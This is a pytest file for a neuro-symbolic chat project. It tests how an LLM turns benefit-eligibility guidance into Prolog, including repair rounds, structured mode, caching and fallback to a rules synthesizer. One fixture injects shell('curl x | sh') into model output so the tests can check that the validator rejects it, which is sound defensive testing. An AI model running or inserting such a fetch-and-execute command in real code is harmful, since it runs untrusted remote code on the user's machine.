"""The `llm` synthesizers: replies from the fake Ollama server, everything else real (SWI's
reader, the validator, the rules compiler's build_module, the engine)."""

from __future__ import annotations

from dataclasses import replace

import pytest
from fake_ollama import closed_port, missing_model_server

from nesy_chat.core.errors import SynthesisError
from nesy_chat.core.module import Origin
from nesy_chat.llm import base as llm_base
from nesy_chat.llm.base import CachedLLM, prompt_digest
from nesy_chat.llm.ollama import OllamaLLM, OllamaOptions
from nesy_chat.prolog.engine import Engine
from nesy_chat.synthesis.base import CachedSynthesizer, Chunk
from nesy_chat.synthesis.llm import LLMSynthesizer, pick_synthesizer
from nesy_chat.synthesis.rules import RulesSynthesizer

MCA = Chunk("mca", "If you don't claim marriage allowance and you or your partner were born before 6 April 1935, "
                   "you may be able to claim married couple's allowance.")
# As a 7B model writes it: fenced, the paper's comments, one claim.
VALID = """```prolog
:- dynamic claims_marriage_allowance/1.
% claims_marriage_allowance(Boolean) indicates whether the user or their partner currently claims Marriage Allowance (true) or not (false).
:- dynamic born_before_6_april_1935/1.
% born_before_6_april_1935(Boolean) indicates whether the user or their partner was born before 6 April 1935 (true) or not (false).

% could_claim_married_couples_allowance is true when the user may be able to claim Married Couple's Allowance.
could_claim_married_couples_allowance :-
    claims_marriage_allowance(false),
    born_before_6_april_1935(true).
```"""
MISSING_COMMA = VALID.replace("claims_marriage_allowance(false),", "claims_marriage_allowance(false)")
SHELL = VALID.replace("born_before_6_april_1935(true).", "born_before_6_april_1935(true),\n    shell('curl x | sh').")
STRUCTURED = {"rules": [{
    "conclusion": "you may be able to claim Married Couple's Allowance", "negated": False, "requirement": False,
    "connective": "all", "groups": [], "exceptions": [], "sentence": 0,
    "conditions": [
        {"statement": "you claim Marriage Allowance", "negated": True,
         "question": "Do you currently claim Marriage Allowance?", "sentence": 0},
        {"statement": "you or your partner were born before 6 April 1935", "negated": False,
         "question": "Were you or your partner born before 6 April 1935?", "sentence": 0}]}]}


def _prove(module, replies: dict) -> str:
    engine = Engine()
    try:
        engine.load(module)
        from nesy_chat.qa.dialogue import Conversation, run

        _, answer = run(Conversation(engine, module.claims[0].name, [module.id]), lambda f: replies[f.fact])
        return answer.label
    finally:
        engine.close()


def test_the_papers_mode_reads_the_module_the_model_writes(ollama):
    ollama.reply(VALID)
    module = LLMSynthesizer(ollama.llm()).synthesize(MCA)
    assert module.id == "mca" and module.text == MCA.text and len(module.sentences) == 1
    assert module.origin == Origin("llm", module.origin.version, "ollama/qwen2.5:7b", prompt_digest(
        "synthesize_prolog", "repair"))
    assert [c.name for c in module.claims] == ["could_claim_married_couples_allowance"]
    assert module.user_fact("claims_marriage_allowance").question == \
        "Do you or your partner currently claim Marriage Allowance?"
    assert _prove(module, {"claims_marriage_allowance": False, "born_before_6_april_1935": True}) == "yes"
    system, user = ollama.chats[0]["messages"]
    assert system["role"] == "system" and ":- dynamic" in system["content"] and MCA.text in user["content"]


def test_invalid_prolog_goes_back_with_its_error_and_the_repair_is_used(ollama):
    ollama.reply(MISSING_COMMA, VALID)
    module = LLMSynthesizer(ollama.llm()).synthesize(MCA)
    assert module.claims[0].name == "could_claim_married_couples_allowance"
    retry = ollama.chats[1]["messages"]
    assert retry[2] == {"role": "assistant", "content": MISSING_COMMA}
    assert retry[3]["role"] == "user" and "rejected" in retry[3]["content"] and "line 10:" in retry[3]["content"]


def test_three_rejected_modules_are_a_clear_failure(ollama):
    ollama.reply(SHELL, SHELL, SHELL)
    with pytest.raises(SynthesisError) as caught:
        LLMSynthesizer(ollama.llm()).synthesize(MCA)
    message = str(caught.value)
    assert message.startswith("llm synthesizer, chunk mca: ollama/qwen2.5:7b gave no valid answer in 3 rounds")
    assert "shell/1 is not allowed in a rule body" in message
    assert len(ollama.chats) == 3


def test_the_rules_module_stands_in_when_configured(ollama):
    ollama.reply(SHELL, SHELL, SHELL)
    synthesizer = LLMSynthesizer(ollama.llm(), fallback=RulesSynthesizer())
    module = synthesizer.synthesize(MCA)
    assert replace(module, origin=None) == RulesSynthesizer().synthesize(MCA)
    assert (module.origin.synthesizer, module.origin.version) == ("rules", RulesSynthesizer.version)
    assert module.origin.failed.startswith("ollama/qwen2.5:7b gave no valid answer in 3 rounds")


def test_once_the_server_is_gone_the_rest_goes_to_the_rules_module_without_asking():
    llm = OllamaLLM("qwen2.5:7b", closed_port(), OllamaOptions(backoff=0.0))
    synthesizer = LLMSynthesizer(llm, "structured", fallback=RulesSynthesizer())
    first = synthesizer.synthesize(MCA)
    assert first.origin.failed.startswith("cannot reach an Ollama server")
    llm.complete = lambda *args, **kwargs: pytest.fail("the server was asked again")
    second = synthesizer.synthesize(Chunk("other", "You can get it if you live in England."))
    assert second.origin.failed == first.origin.failed and second.claims


def test_the_structured_mode_fills_the_schema_and_the_compiler_writes_the_module(ollama):
    ollama.reply(STRUCTURED)
    module = LLMSynthesizer(ollama.llm(), "structured").synthesize(MCA)
    assert ollama.chats[0]["format"]["properties"]["rules"]["type"] == "array"
    assert "[0] If you don't claim marriage allowance" in ollama.chats[0]["messages"][1]["content"]
    assert [f.question for f in module.user_facts] == ["Do you currently claim Marriage Allowance?",
                                                       "Were you or your partner born before 6 April 1935?"]
    facts = [f.name for f in module.user_facts]
    assert _prove(module, {facts[0]: False, facts[1]: True}) == "yes"
    assert _prove(module, {facts[0]: True, facts[1]: True}) == "no"


def test_groups_exceptions_and_negative_conclusions(ollama):
    chunk = Chunk("grant", "You can get the grant if you're a student and you live in England or Wales, unless "
                           "you're in prison. You can't get the grant if you own a house.")

    def condition(statement, question, sentence=0):
        return {"statement": statement, "negated": False, "question": question, "sentence": sentence}

    rules = [{"conclusion": "you can get the grant", "negated": False, "requirement": False, "connective": "all",
              "conditions": [condition("you are a student", "Are you a student?")],
              "groups": [{"connective": "any", "conditions": [condition("you live in England", "Do you live in England?"),
                                                              condition("you live in Wales", "Do you live in Wales?")]}],
              "exceptions": [condition("you are in prison", "Are you in prison?")], "sentence": 0},
             {"conclusion": "you can get the grant", "negated": True, "requirement": False, "connective": "all",
              "conditions": [condition("you own a house", "Do you own a house?", 1)],
              "groups": [], "exceptions": [], "sentence": 1}]
    ollama.reply({"rules": rules})
    module = LLMSynthesizer(ollama.llm(), "structured").synthesize(chunk)
    names = {f.question: f.name for f in module.user_facts}
    base = {names["Are you a student?"]: True, names["Do you live in England?"]: False,
            names["Do you live in Wales?"]: True, names["Are you in prison?"]: False,
            names["Do you own a house?"]: False}
    assert _prove(module, base) == "yes"
    assert _prove(module, {**base, names["Are you in prison?"]: True}) == "no"
    assert _prove(module, {**base, names["Do you own a house?"]: True}) == "no"
    assert [c.gloss for c in module.claims] == ["you can get the grant", "you can not get the grant"]


def test_a_sentence_that_does_not_exist_is_sent_back(ollama):
    wrong = {"rules": [{**STRUCTURED["rules"][0], "sentence": 4}]}
    ollama.reply(wrong, STRUCTURED)
    module = LLMSynthesizer(ollama.llm(), "structured").synthesize(MCA)
    assert len(module.user_facts) == 2
    assert "sentence 4 is cited but the module has 1 sentences" in ollama.chats[1]["messages"][-1]["content"]


def test_a_second_synthesis_asks_the_server_nothing(ollama, tmp_path):
    ollama.reply(VALID)
    first = LLMSynthesizer(CachedLLM(ollama.llm(), tmp_path)).synthesize(MCA)
    before = ollama.requests
    again = LLMSynthesizer(CachedLLM(ollama.llm(), tmp_path)).synthesize(MCA)
    assert again == first and ollama.requests == before


def test_the_module_cache_keeps_models_and_prompts_apart(ollama, tmp_path, monkeypatch):
    synthesizer = LLMSynthesizer(ollama.llm())
    code, model, digest = synthesizer.version.split("-")
    assert model == "ollama_qwen2.5_7b" and digest == prompt_digest("synthesize_prolog", "repair")
    assert LLMSynthesizer(OllamaLLM("llama3.1:8b")).version == f"{code}-ollama_llama3.1_8b-{digest}"
    ollama.reply(VALID)
    module = CachedSynthesizer(synthesizer, tmp_path).synthesize(MCA)
    assert [p.name for p in tmp_path.iterdir()] == [f"llm-{synthesizer.version}-{MCA.content_hash}.pl"]
    assert CachedSynthesizer(synthesizer, tmp_path).synthesize(MCA) == module
    assert module.origin.model == "ollama/qwen2.5:7b"
    edited = tmp_path / "prompts"
    edited.mkdir()
    (edited / "synthesize_prolog.md").write_text("@system\nedited\n", encoding="utf-8")
    (edited / "repair.md").write_text((llm_base.PROMPTS / "repair.md").read_text(encoding="utf-8"), encoding="utf-8")
    monkeypatch.setattr(llm_base, "PROMPTS", edited)  # an edited prompt: another key
    assert LLMSynthesizer(ollama.llm()).version != synthesizer.version


def test_a_stand_in_is_not_cached_so_the_next_run_asks_the_model_again(ollama, tmp_path):
    ollama.reply(SHELL, SHELL, SHELL, VALID)
    synthesizer = LLMSynthesizer(ollama.llm(), fallback=RulesSynthesizer())
    assert CachedSynthesizer(synthesizer, tmp_path).synthesize(MCA).origin.failed
    assert list(tmp_path.iterdir()) == []
    assert CachedSynthesizer(synthesizer, tmp_path).synthesize(MCA).origin.model == "ollama/qwen2.5:7b"
    assert len(list(tmp_path.iterdir())) == 1


def test_pick_falls_back_to_rules_when_no_server_answers():
    host = closed_port()
    picked = pick_synthesizer("llm", "qwen2.5:7b", host, cache=None)
    assert isinstance(picked.synthesizer, RulesSynthesizer)
    assert picked.notice.startswith(f"cannot reach an Ollama server at {host}")
    assert picked.notice.endswith("Using the rules synthesizer instead.")


def test_pick_falls_back_to_rules_when_the_model_is_not_pulled(ollama_http):
    missing_model_server(ollama_http, "qwen2.5:7b")
    picked = pick_synthesizer("llm-structured", "qwen2.5:7b", ollama_http.url_for("/"), cache=None)
    assert isinstance(picked.synthesizer, RulesSynthesizer) and "`ollama pull qwen2.5:7b`" in picked.notice


def test_pick_gives_the_llm_synthesizer_when_the_model_is_there(ollama, tmp_path):
    picked = pick_synthesizer("llm-structured", "qwen2.5:7b", ollama.host, cache=tmp_path)
    assert picked.notice is None and picked.synthesizer.name == "llm-structured"
    assert isinstance(picked.synthesizer.fallback, RulesSynthesizer)
    assert pick_synthesizer("rules").synthesizer.name == "rules"
